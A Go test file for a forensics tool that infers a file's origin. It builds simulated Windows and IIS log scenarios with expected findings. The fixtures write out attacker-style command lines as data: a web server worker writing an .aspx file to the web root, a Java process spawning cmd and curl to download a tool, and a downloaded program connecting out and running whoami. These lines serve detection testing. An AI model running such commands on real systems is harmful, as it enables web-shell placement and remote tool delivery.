package origin_test

import (
	"strings"

	"github.com/birthmark-dfir/birthmark/evtx"
	"github.com/birthmark-dfir/birthmark/origin"
)

// Machines with web servers that are not what they seem at first.
func webServers() []story {
	const (
		balancer = "10.0.3.12"
		java     = `C:\Program Files\Java\jdk-17\bin\java.exe`
		fields   = "date time s-ip cs-method cs-uri-stem s-port c-ip cs(User-Agent) sc-status time-taken X-Forwarded-For"
		health   = " 10.0.4.15 GET /api/health 443 " + balancer + " ELB-HealthChecker/2.0 200 1 -"
		asp      = `C:\inetpub\wwwroot\portal\x.aspx`
	)
	pool := under(ran("06:20:00", 4380, workerW3, `c:\windows\system32\inetsrv\w3wp.exe -ap "Portal"`, 1200, svchost, system), portal)
	var checks []string
	for _, minute := range strings.Fields("06:30:00 11:57:00 11:58:00 11:59:00 12:00:00 12:01:00 12:02:00 19:50:00") {
		checks = append(checks, minute+health)
	}
	at := func(lines ...string) []string {
		return append(append([]string{}, checks[:5]...), append(lines, checks[5:]...)...)
	}
	byChild := []any{
		ran("11:59:59", 5400, shell, `cmd /c echo x> `+asp, 4380, workerW3, portal), ended("12:00:01", 5400, shell, portal),
	}

	return []story{
		{"behind a balancer, with the client in a header", box("WEB01", auditedDay(), pool,
			signedOn("06:19:59", portal, 5, "-", ""),
			byChild,
			born(asp, "12:00:00.2134567", portal),
			iis(fields, at("12:00:01 10.0.4.15 POST /portal/upload.aspx 443 "+balancer+" python-requests/2.31.0 200 2100 "+stranger)...)),
			asp, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + shell + " | pid=5400 | parent_image=" + workerW3,
				origin.Account:  `inferred user=IIS APPPOOL\Portal | sid=` + portal.sid,
				origin.Arrival:  "inferred kind=web_upload | address=" + stranger + " | url=/portal/upload.aspx",
				origin.WebEntry: "inferred image=" + workerW3 + " | method=POST | url=/portal/upload.aspx | address=" + balancer + " | address=" + stranger,
				origin.Logon:    "inferred logon_id=0x6c0de | logon_type=5",
			}},

		// The request was to another site, whose log was not collected.
		{"only the checks of a balancer fit", box("WEB01", auditedDay(), pool,
			signedOn("06:19:59", portal, 5, "-", ""),
			byChild,
			born(asp, "12:00:00.2134567", portal),
			iis(fields, at()...)),
			asp, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + shell + " | pid=5400",
				origin.Account:  `inferred user=IIS APPPOOL\Portal | sid=` + portal.sid,
				origin.Arrival:  "unknown kind=web_upload | address=" + stranger,
				origin.WebEntry: "inferred image=" + workerW3 + " | pid=4380 | url=/portal/upload.aspx",
				origin.Logon:    "inferred logon_id=0x6c0de | logon_type=5",
			}},

		{"Tomcat, whose requests no log here holds", box("APP03", sysmonDay(),
			signedOn("06:20:00", network, 5, "-", ""),
			spawned("06:20:01", 1, `C:\Tomcat\bin\Tomcat9.exe`, `"C:\Tomcat\bin\Tomcat9.exe" //RS//Tomcat9`, 201, services, network),
			spawned("06:20:02", 3, java, "java -jar app.jar", 1, `C:\Tomcat\bin\Tomcat9.exe`, network),
			spawned("11:59:59", 5, shell, `cmd.exe /c curl -o `+tool+" "+depotURL, 3, java, network),
			spawned("11:59:59.3", 6, system32+"curl.exe", "curl  -o "+tool+" "+depotURL, 5, shell, network),
			dialled("12:00:00", 6, system32+"curl.exe", depot, 80),
			made("12:00:00.2134567", 6, system32+"curl.exe", tool, network),
			born(tool, "12:00:00.2134567", network)),
			tool, truth{
				origin.Appeared: "corroborated time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "recorded image=" + system32 + "curl.exe | pid=106",
				origin.Account:  `recorded user=NT AUTHORITY\NETWORK SERVICE | sid=S-1-5-20 | logon_id=0x3e4`,
				origin.Arrival:  "corroborated kind=download | url=" + depotURL + " | address=" + depot,
				origin.WebEntry: "inferred image=" + java + ` | image=C:\Tomcat\bin\Tomcat9.exe`,
				origin.Logon:    "unknown logon_id=0x3e4 | logon_type=5",
			}},

		// A proxy, a decoy, and the program's own old mark are not where it came from.
		{"a proxy, a comment, and the mark of the tool itself", box("WS07", sysmonDay(),
			signedOn("08:01:00", anna, 2, "127.0.0.1", "WS07"),
			spawned("11:59:58", 1, `C:\Tools\wget.exe`, `C:\Tools\wget.exe -e use_proxy=yes -e http_proxy=http://proxy.corp.example:3128 -O `+tool+" "+depotURL, 2,
				shell, anna),
			dialled("11:59:59", 1, `C:\Tools\wget.exe`, "10.0.0.3", 3128),
			made("12:00:00.2134567", 1, `C:\Tools\wget.exe`, tool, anna),
			born(`C:\Tools\wget.exe`, "06:30:00", anna, marked(3, "https://eternallybored.example/wget.exe", "")),
			born(tool, "12:00:00.2134567", anna)),
			tool, truth{
				origin.Appeared: "corroborated time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   `recorded image=C:\Tools\wget.exe | pid=101`,
				origin.Account:  `recorded user=CORP\anna`,
				origin.Arrival:  "inferred kind=download | url=" + depotURL + " | address=" + depot,
				origin.Logon:    "recorded logon_id=0x51a2c | logon_type=2",
			}},

		{"a scheduled copy that a comment follows", box("WS07", sysmonDay(),
			signedOn("08:01:00", anna, 2, "127.0.0.1", "WS07"),
			signedOn("11:40:00", anna.in(0x52222), 3, jumpHost, "-"),
			spawned("11:59:58", 1, shell, `cmd /c copy \\10.9.9.9\s\x.exe `+tool+` & rem https://www.microsoft.com/download`, 2, explorer, anna),
			made("12:00:00.2134567", 1, shell, tool, anna),
			born(tool, "12:00:00.2134567", anna)),
			tool, truth{
				origin.Appeared:     "corroborated time=2026-03-02T12:00:00.2134567Z",
				origin.OriginalName: "recorded path=" + tool,
				origin.Writer:       "recorded image=" + shell + " | pid=101",
				origin.Account:      `recorded user=CORP\anna`,
				origin.Arrival:      `inferred kind=smb | address=10.9.9.9`,
				origin.Logon:        "recorded logon_id=0x51a2c | logon_type=2 | logon_id=0x52222 | logon_type=3 | address=127.0.0.1 | address=" + jumpHost,
			}},

		// What runs it now is known from what it did, and no record of its start is left.
		{"its connection shows that it ran", box("WS07", sysmonDay(),
			signedOn("08:01:00", anna, 2, "127.0.0.1", "WS07"),
			spawned("11:59:58", 1, system32+"curl.exe", "curl -o "+tool+" "+depotURL, 2, shell, anna),
			dialled("11:59:59", 1, system32+"curl.exe", depot, 80),
			made("12:00:00.2134567", 1, system32+"curl.exe", tool, anna),
			born(tool, "12:00:00.2134567", anna),
			dialled("13:00:00", 7, tool, stranger, 443),
			spawned("13:00:01", 8, shell, "cmd /c whoami", 7, tool, anna),
			&evtx.Sysmon5{System: evtx.System{TimeCreated: clock("13:30:00")}, ProcessGuid: guid(7), ProcessId: 107, Image: tool, User: anna.String()}),
			tool, truth{
				origin.Appeared: "corroborated time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "recorded image=" + system32 + "curl.exe | pid=101",
				origin.Account:  `recorded user=CORP\anna`,
				origin.Arrival:  "corroborated kind=download | url=" + depotURL + " | address=" + depot,
				origin.Logon:    "recorded logon_id=0x51a2c | logon_type=2",
				origin.Executed: `recorded pid=107 | user=CORP\anna | time=2026-03-02T13:00:00Z | time=2026-03-02T13:00:01Z`,
				origin.Reach:    "recorded address=" + stranger + " | port=443",
			}},
	}
}
